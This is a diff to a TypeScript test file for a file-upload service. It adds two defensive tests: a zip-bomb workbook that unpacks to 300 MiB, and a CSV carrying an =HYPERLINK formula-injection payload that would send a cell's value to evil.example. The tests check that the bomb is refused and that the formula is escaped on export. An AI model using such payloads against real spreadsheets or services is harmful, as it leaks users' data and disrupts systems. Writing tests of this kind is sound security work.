@@ -1,6 +1,7 @@
 import { readdirSync, statSync } from 'node:fs';
 import { join } from 'node:path';
 import { expect, test, vi } from 'vitest';
+import { makeZip, SHEET_PART, textRow, workbookParts } from '../../intake/xlsx/workbook-maker.ts';
 import { NamedBrowser, PROXY_SECRET } from './named-browser.ts';
 import { createSignedInWorld, ORIGIN, type SignedInWorld } from './signed-in-world.ts';
 
@@ -185,4 +186,36 @@ test('what is too large is refused as it comes, and nothing of it is kept', asyn
   expect(filesBelow(join(desk.world.cwd, 'runs', 'uploads')).map((file) => statSync(file).size)).toEqual([
     200 * MIB,
   ]);
+});
+
+test('a workbook that unpacks to 300 MiB is refused in the words of intake, and the desk goes on', async () => {
+  await using desk = await startDesk();
+  const kim = new NamedBrowser(desk.place, 'kim@corp.example');
+  const parts = workbookParts({ rows: textRow(1, 'a'), strings: '' });
+  const bomb = makeZip(
+    parts.map((part) =>
+      part.name === SHEET_PART ? { name: SHEET_PART, content: Buffer.alloc(300 * MIB, ' ') } : part,
+    ),
+  );
+  const path = await kim.upload('list.xlsx', bomb);
+  const page = await kim.page(path);
+  expect(page.text).toContain('over 200 times its packed size');
+  expect((await kim.page('/')).status).toBe(200);
+});
+
+test('formulas stay text: on the page, and in the list that is given out', async () => {
+  await using desk = await startDesk();
+  const kim = new NamedBrowser(desk.place, 'kim@corp.example');
+  const lee = new NamedBrowser(desk.place, 'lee@corp.example');
+  const formula = `=HYPERLINK("https://evil.example/"&A1)`;
+  const quoted = `"${formula.replaceAll('"', '""')}"`;
+  const path = await kim.upload('list.csv', `user_id,par,${quoted}\n1001,short,${quoted}\n`);
+  expect((await kim.page(path)).text).not.toContain('HYPERLINK("');
+  await lee.press(path, 'approve');
+  await kim.until(path, 'ended');
+  const given = await kim.press(path, 'files', { name: 'rejected.csv', reason: 'to correct it' });
+  expect(given.status).toBe(200);
+  expect(given.headers['content-disposition']).toMatch(/^attachment; filename="list\.rejected\.csv"/);
+  expect(given.text).not.toMatch(/(?:^|[",\n])=HYPERLINK/);
+  expect(given.text).toContain(`'=HYPERLINK`);
 });
